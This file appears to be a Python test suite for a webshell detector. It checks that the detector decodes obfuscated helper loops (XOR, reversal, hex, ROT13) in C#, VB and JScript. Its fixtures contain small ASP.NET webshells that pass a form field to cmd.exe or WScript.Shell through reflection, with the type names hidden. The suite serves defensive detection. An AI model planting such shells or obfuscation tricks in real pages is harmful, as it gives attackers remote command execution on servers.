"""A page's own helper that decodes a string with a loop of one append, or reverses an array in
place, is folded like any other helper: `Rev("ssecorP...")` with `Array.Reverse(a)`, `Xor(s, 5)`
with `foreach (char c in s) sb.Append((char)(c ^ k))` or an index loop (`r += ...` or `r = r + ...`,
VB's `Mid` and `Len`; a step other than one, counting down, and `while` loops whose index starts
before them, or whose index is declared before them and keeps its last value; locals the body
declares before its append), and a loop that decodes a byte array
in place (`b[i] = (byte)(b[i] ^ k)`, `b[i] ^= key[i % key.Length]`, VB's `b(i) = b(i) Xor k`), in
C#, VB and JScript; a loop body may also be an `if` chain of one append per branch, and a char in
C# arithmetic is its code (`(char)((c - 'a' + 13) % 26 + 'a')`, ROT13). A shell that
names `Process.Start` only through such a helper and reflection was a low reflection finding
(docs/detection/webshell-code.md, "Helpers with a loop")."""

from __future__ import annotations

import base64

import pytest

from code_support import assert_found, cs_page, run, vb_page

TYPE = "System.Diagnostics.Process, System"
XORED = "".join(chr(ord(c) ^ 5) for c in TYPE)
REVERSED = TYPE[::-1]
HEXED = TYPE.encode().hex()
ROT13 = TYPE.translate(
    str.maketrans(
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz", "NOPQRSTUVWXYZABCDEFGHIJKLMnopqrstuvwxyzabcdefghijklm"
    )
)
XORED_B64 = base64.b64encode(bytes(ord(c) ^ 7 for c in TYPE)).decode()
KEYED_B64 = base64.b64encode(bytes(ord(c) ^ b"key"[i % 3] for i, c in enumerate(TYPE))).decode()
CS_CALL = (
    'string c = Request.Form["c"];\n'
    'Type.GetType({name}).GetMethod("Start", new[] {{ typeof(string), typeof(string) }})'
    '.Invoke(null, new object[] {{ "cmd.exe", "/c " + c }});'
)
VB_CALL = (
    'Dim c As String = Request.Form("c")\n'
    'Type.GetType({name}).GetMethod("Start", New Type() {{GetType(String), GetType(String)}})'
    '.Invoke(Nothing, New Object() {{"cmd.exe", "/c " & c}})'
)

CS_HELPERS = [
    (
        "reverse",
        f'Rev("{REVERSED}")',
        "static string Rev(string s) { char[] a = s.ToCharArray(); Array.Reverse(a); return new string(a); }",
    ),
    (
        "foreach-builder",
        f'X("{XORED}", 5)',
        "static string X(string s, int k) { var sb = new System.Text.StringBuilder();\n"
        "  foreach (char ch in s) sb.Append((char)(ch ^ k));\n  return sb.ToString(); }",
    ),
    (
        "for-index",
        f'X("{XORED}", 5)',
        'static string X(string s, int k) { string r = ""; for (int i = 0; i < s.Length; i++) r += (char)(s[i] ^ k); return r; }',
    ),
    (
        "for-written-out",
        f'X("{XORED}", 5)',
        'static string X(string s, int k) { string r = ""; for (int i = 0; i <= s.Length - 1; i++) { r = r + (char)(s[i] ^ k); } return r; }',
    ),
    (
        "foreach-block",
        f'X("{XORED}", 5)',
        "static string X(string s, int k) { string r = string.Empty; foreach (var c in s) { r += (char)(c ^ k); } return r; }",
    ),
    (
        "hex-step-of-two",
        f'H("{HEXED}")',
        'static string H(string s) { string r = ""; for (int i = 0; i < s.Length; i += 2) r += (char)Convert.ToInt32(s.Substring(i, 2), 16); return r; }',
    ),
    (
        "counting-down",
        f'R("{REVERSED}")',
        'static string R(string s) { string r = ""; for (int i = s.Length - 1; i >= 0; i--) r += s[i]; return r; }',
    ),
    (
        "while",
        f'X("{XORED}", 5)',
        'static string X(string s, int k) { string r = ""; int i = 0; while (i < s.Length) { r += (char)(s[i] ^ k); i++; } return r; }',
    ),
    (
        "index-declared-before",
        # `for (i = 0; ...)` over an `int i;` declared before: the index keeps its last value
        f'X("{XORED}", 5)',
        'static string X(string s, int k) { string r = ""; int i; for (i = 0; i < s.Length; i++) r += (char)(s[i] ^ k); '
        "return r.Substring(0, i); }",
    ),
    (
        "temporary-local",
        f'X("{XORED}", 5)',
        'static string X(string s, int k) { string r = ""; for (int i = 0; i < s.Length; i++) { char c = s[i]; int x = c ^ k; r += (char)x; } return r; }',
    ),
    (
        "bytes-in-place",
        f'D("{XORED_B64}")',
        "static string D(string s) { byte[] b = Convert.FromBase64String(s);\n"
        "  for (int i = 0; i < b.Length; i++) b[i] = (byte)(b[i] ^ 7);\n  return System.Text.Encoding.UTF8.GetString(b); }",
    ),
    (
        "bytes-in-place-key",
        f'D("{KEYED_B64}")',
        'static byte[] K = System.Text.Encoding.ASCII.GetBytes("key");\n'
        "static string D(string s) { byte[] b = Convert.FromBase64String(s);\n"
        "  for (int i = 0; i < b.Length; i++) { b[i] ^= K[i % K.Length]; }\n  return System.Text.Encoding.UTF8.GetString(b); }",
    ),
    (
        "rot13-conditional",
        # a char in arithmetic is its code: `(char)((c - 'a' + 13) % 26 + 'a')`
        f'R("{ROT13}")',
        "static string R(string s) { var sb = new System.Text.StringBuilder(); foreach (char c in s) "
        "sb.Append((char)(c >= 'a' && c <= 'z' ? (c - 'a' + 13) % 26 + 'a' : c >= 'A' && c <= 'Z' ? (c - 'A' + 13) % 26 + 'A' : c)); "
        "return sb.ToString(); }",
    ),
    (
        "rot13-if-else",
        # one append in each branch of an `if` chain, `char.IsLower` folded
        f'R("{ROT13}")',
        "static string R(string s) { string r = \"\"; foreach (char c in s) { if (char.IsLower(c)) r += (char)((c - 'a' + 13) % 26 + 'a'); "
        "else if (char.IsUpper(c)) { r += (char)((c - 'A' + 13) % 26 + 'A'); } else r += c; } return r; }",
    ),
    (
        "while-counting-down",
        f'R("{REVERSED}")',
        "static string R(string s) { var sb = new System.Text.StringBuilder(); int i = s.Length; while (i > 0) { sb.Append(s[i - 1]); i = i - 1; } return sb.ToString(); }",
    ),
]
VB_HELPERS = [
    (
        "vb-reverse",
        f'Rev("{REVERSED}")',
        "Function Rev(s As String) As String\n  Dim a() As Char = s.ToCharArray()\n  Array.Reverse(a)\n  Return New String(a)\nEnd Function",
    ),
    (
        "vb-for-each",
        f'X("{XORED}", 5)',
        'Function X(s As String, k As Integer) As String\n  Dim r As String = ""\n  For Each ch As Char In s\n'
        "    r &= ChrW(AscW(ch) Xor k)\n  Next\n  Return r\nEnd Function",
    ),
    (
        "vb-builder",
        f'X("{XORED}", 5)',
        "Function X(s As String, k As Integer) As String\n  Dim sb As New System.Text.StringBuilder()\n  For Each ch As Char In s\n"
        "    sb.Append(ChrW(AscW(ch) Xor k))\n  Next\n  Return sb.ToString()\nEnd Function",
    ),
    (
        "vb-mid-len",
        f'X("{XORED}", 5)',
        'Function X(s As String, k As Integer) As String\n  Dim r = ""\n  For i = 1 To Len(s)\n'
        "    r = r & Chr(Asc(Mid(s, i, 1)) Xor k)\n  Next\n  Return r\nEnd Function",
    ),
    (
        "vb-for",
        f'X("{XORED}", 5)',
        'Function X(s As String, k As Integer) As String\n  Dim r As String = ""\n  For i As Integer = 0 To s.Length - 1\n'
        "    r &= ChrW(AscW(s(i)) Xor k)\n  Next\n  Return r\nEnd Function",
    ),
    (
        "vb-step-of-two",
        f'H("{HEXED}")',
        'Function H(s As String) As String\n  Dim r As String = ""\n  For i As Integer = 0 To s.Length - 1 Step 2\n'
        "    r &= ChrW(Convert.ToInt32(s.Substring(i, 2), 16))\n  Next\n  Return r\nEnd Function",
    ),
    (
        "vb-step-down",
        f'R("{REVERSED}")',
        'Function R(s As String) As String\n  Dim r As String = ""\n  For i As Integer = Len(s) To 1 Step -1\n'
        "    r &= Mid(s, i, 1)\n  Next\n  Return r\nEnd Function",
    ),
    (
        "vb-while",
        f'X("{XORED}", 5)',
        'Function X(s As String, k As Integer) As String\n  Dim r As String = ""\n  Dim i As Integer = 0\n  While i < s.Length\n'
        "    r &= ChrW(AscW(s(i)) Xor k)\n    i += 1\n  End While\n  Return r\nEnd Function",
    ),
    (
        "vb-index-declared-before",
        f'X("{XORED}", 5)',
        'Function X(s As String, k As Integer) As String\n  Dim r As String = ""\n  Dim i As Integer\n'
        "  For i = 0 To s.Length - 1\n    r &= ChrW(AscW(s(i)) Xor k)\n  Next\n  Return r.Substring(0, i)\nEnd Function",
    ),
    (
        "vb-temporary-local",
        f'X("{XORED}", 5)',
        'Function X(s As String, k As Integer) As String\n  Dim r As String = ""\n  For i As Integer = 0 To s.Length - 1\n'
        "    Dim c As Char = s(i)\n    r &= ChrW(AscW(c) Xor k)\n  Next\n  Return r\nEnd Function",
    ),
    (
        "vb-bytes-in-place",
        f'D("{XORED_B64}")',
        "Function D(s As String) As String\n  Dim b() As Byte = Convert.FromBase64String(s)\n  For i = 0 To b.Length - 1\n"
        "    b(i) = b(i) Xor 7\n  Next\n  Return System.Text.Encoding.UTF8.GetString(b)\nEnd Function",
    ),
    (
        "vb-bytes-in-place-cbyte",
        f'D("{XORED_B64}")',
        "Function D(s As String) As String\n  Dim b As Byte() = Convert.FromBase64String(s)\n  For i As Integer = 0 To b.Length - 1\n"
        "    b(i) = CByte(b(i) Xor 7)\n  Next\n  Return System.Text.Encoding.UTF8.GetString(b)\nEnd Function",
    ),
    (
        "vb-rot13-if-elseif",
        # VB's `If ... ElseIf ... Else ... End If`, one append in each part
        f'R("{ROT13}")',
        'Function R(s As String) As String\n  Dim r As String = ""\n  For Each c As Char In s\n'
        "    If Char.IsLower(c) Then\n      r &= ChrW((AscW(c) - 97 + 13) Mod 26 + 97)\n"
        "    ElseIf Char.IsUpper(c) Then\n      r &= ChrW((AscW(c) - 65 + 13) Mod 26 + 65)\n"
        "    Else\n      r &= c\n    End If\n  Next\n  Return r\nEnd Function",
    ),
    (
        "vb-one-line-if",
        # a one-line `If ... Then ... Else ...`, its statements written `r = r & x` and `r &= x`
        f'R("{ROT13}")',
        'Function R(s As String) As String\n  Dim r As String = ""\n  For Each c As Char In s\n'
        '    If c >= "a"c AndAlso c <= "z"c Then r = r & ChrW((AscW(c) - 97 + 13) Mod 26 + 97) Else r &= '
        'If(c >= "A"c AndAlso c <= "Z"c, ChrW((AscW(c) - 65 + 13) Mod 26 + 65), c)\n'
        "  Next\n  Return r\nEnd Function",
    ),
    (
        "vb-do-while",
        f'X("{XORED}", 5)',
        'Function X(s As String, k As Integer) As String\n  Dim r As String = ""\n  Dim i As Integer = 1\n  Do While i <= Len(s)\n'
        "    r = r & Chr(Asc(Mid(s, i, 1)) Xor k)\n    i = i + 1\n  Loop\n  Return r\nEnd Function",
    ),
]


@pytest.mark.parametrize(("form", "call", "helper"), CS_HELPERS, ids=[h[0] for h in CS_HELPERS])
def test_csharp_helper_with_a_loop_is_folded(form: str, call: str, helper: str) -> None:
    report = assert_found(
        "h.aspx", cs_page(CS_CALL.format(name=call), members=helper), "EXH-WS-CODE-PROCESS", ["form field 'c'"]
    )
    assert TYPE in report.folded


@pytest.mark.parametrize(("form", "call", "helper"), VB_HELPERS, ids=[h[0] for h in VB_HELPERS])
def test_vb_helper_with_a_loop_is_folded(form: str, call: str, helper: str) -> None:
    report = assert_found(
        "h.aspx", vb_page(VB_CALL.format(name=call), members=helper), "EXH-WS-CODE-PROCESS", ["form field 'c'"]
    )
    assert TYPE in report.folded


@pytest.mark.parametrize(
    "helper",
    [
        # two statements in the loop, bounds that do not fold, a loop that would never end (a
        # step away from its bound, a step of nothing), a `while` whose index steps before the
        # append or whose start is unknown: not followed
        'static string X(string s, int k) { string r = ""; foreach (char ch in s) { r += ch; r += "x"; } return r; }',
        'static string X(string s, int k) { string r = ""; for (int i = 0; i < Limit(); i++) r += s[i]; return r; }',
        'static string X(string s, int k) { string r = ""; for (int i = 0; i < s.Length; i--) r += s[i]; return r; }',
        'static string X(string s, int k) { string r = ""; for (int i = 0; i < s.Length; i += k - 5) r += s[i]; return r; }',
        'static string X(string s, int k) { string r = ""; int i = 0; while (i < s.Length) { i++; r += s[i - 1]; } return r; }',
        'static string X(string s, int k) { string r = ""; int i = Start(); while (i < s.Length) { r += s[i]; i++; } return r; }',
        # a store at another index than the loop's, a byte that does not fit (C# would not
        # compile it; no wrapping is guessed)
        "static string X(string s, int k) { byte[] b = System.Text.Encoding.UTF8.GetBytes(s);\n"
        "  for (int i = 0; i < b.Length - 1; i++) b[i + 1] = (byte)(b[i] ^ k); return System.Text.Encoding.UTF8.GetString(b); }",
        "static string X(string s, int k) { byte[] b = System.Text.Encoding.UTF8.GetBytes(s);\n"
        "  for (int i = 0; i < b.Length; i++) b[i] = (b[i] ^ k) + 256; return System.Text.Encoding.UTF8.GetString(b); }",
    ],
    ids=[
        "two-statements",
        "unknown-bound",
        "wrong-way",
        "step-of-nothing",
        "step-first",
        "unknown-start",
        "other-index",
        "byte-overflow",
    ],
)
def test_a_loop_of_another_shape_gives_no_constant(helper: str) -> None:
    report = run("h.aspx", cs_page(CS_CALL.format(name=f'X("{XORED}", 5)'), members=helper))
    assert TYPE not in report.folded


@pytest.mark.parametrize(
    "helper",
    [
        'function d(s) { var r = ""; for (var i = 0; i < s.length; i++) { r += String.fromCharCode(s.charCodeAt(i) ^ 5); } return r; }',
        'function d(s) { var r = ""; for (var i = 0; i < s.length; i++) r = r + String.fromCharCode(s.charCodeAt(i) ^ 5); return r; }',
        'function d(s) { var r = ""; var i = 0; while (i < s.length) { r += String.fromCharCode(s.charCodeAt(i) ^ 5); i += 1; } return r; }',
        'function d(s) { var r = ""; var i; for (i = 0; i < s.length; i++) r += String.fromCharCode(s.charCodeAt(i) ^ 5); return r; }',
    ],
    ids=["jscript-block", "jscript-written-out", "jscript-while", "jscript-index-declared-before"],
)
def test_jscript_helper_with_a_loop_is_folded(helper: str) -> None:
    progid = "".join(chr(ord(c) ^ 5) for c in "WScript.Shell")
    page = (
        '<%@ Page Language="JScript" %>\n<script runat="server">\n'
        + helper
        + f'\nfunction Page_Load() {{ var o = new ActiveXObject(d("{progid}")); o.Run(Request["c"]); }}\n</script>'
    )
    report = assert_found("j.aspx", page, "EXH-WS-CODE-PROCESS", ["request parameter 'c'"])
    assert "WScript.Shell" in report.folded


def test_a_vb_do_until_loop_is_not_read_as_do_while() -> None:
    helper = (
        'Function X(s As String, k As Integer) As String\n  Dim r As String = ""\n  Dim i As Integer = 0\n'
        "  Do Until i < s.Length\n    r &= ChrW(AscW(s(i)) Xor k)\n    i += 1\n  Loop\n  Return r\nEnd Function"
    )
    report = run("h.aspx", vb_page(VB_CALL.format(name=f'X("{XORED}", 5)'), members=helper))
    assert TYPE not in report.folded


@pytest.mark.parametrize(
    "reverse",
    ["System.Array.Reverse(a);", "Array.Reverse(a, 0, a.Length);"],
    ids=["qualified", "whole-range"],
)
def test_array_reverse_written_otherwise_reverses_the_page_constant(reverse: str) -> None:
    body = f'char[] a = "{REVERSED}".ToCharArray();\n{reverse}\n' + CS_CALL.format(name="new string(a)")
    report = assert_found("r.aspx", cs_page(body), "EXH-WS-CODE-PROCESS", ["form field 'c'"])
    assert TYPE in report.folded


def test_array_reverse_of_a_part_is_not_read_as_whole() -> None:
    body = f'char[] a = "{REVERSED}".ToCharArray();\nArray.Reverse(a, 1, 4);\n' + CS_CALL.format(name="new string(a)")
    assert TYPE not in run("r.aspx", cs_page(body)).folded


def test_loops_that_multiply_are_a_recorded_limit_not_a_timeout() -> None:
    # A helper whose loop calls another helper's loop: 60,000 x 60,000 turns. The turns count
    # against the folder's budget, so the value is reported as not folded, the command is still
    # found, and the analysis ends long before its deadline.
    helpers = (
        'static string A(string s) { string r = ""; for (int i = 0; i < 60000; i++) r += B(s); return r; }\n'
        'static string B(string s) { string r = ""; int i = 0; while (i < 60000) { r += s; i++; } return r; }'
    )
    report = run("n.aspx", cs_page('System.Diagnostics.Process.Start(A("q"), Request["c"]);', members=helpers))
    assert "EXH-WS-CODE-PROCESS" in [c.rule_id for c in report.capabilities]
    assert [p.kind for p in report.problems] == ["limit"]


def test_a_branch_whose_condition_does_not_fold_gives_no_constant() -> None:
    helper = 'static string R(string s) { string r = ""; foreach (char c in s) { if (Flag(c)) r += c; else r += "x"; } return r; }'
    assert TYPE not in run("h.aspx", cs_page(CS_CALL.format(name=f'R("{TYPE}")'), members=helper)).folded


@pytest.mark.parametrize(
    ("expression", "folded"),
    [
        ("(char)('a' + 1) + \"x\"", "bx"),  # a char plus a number is a number: 'b'
        ('"a" + 1', "a1"),  # a string plus a number is text
        ("'a' + \"b\"", "ab"),  # a char joined with a string is text
    ],
)
def test_a_char_in_arithmetic_is_its_code(expression: str, folded: str) -> None:
    report = run("c.aspx", cs_page(f'string t = {expression};\nSystem.Diagnostics.Process.Start(t + ".exe");'))
    assert f"{folded}.exe" in report.folded
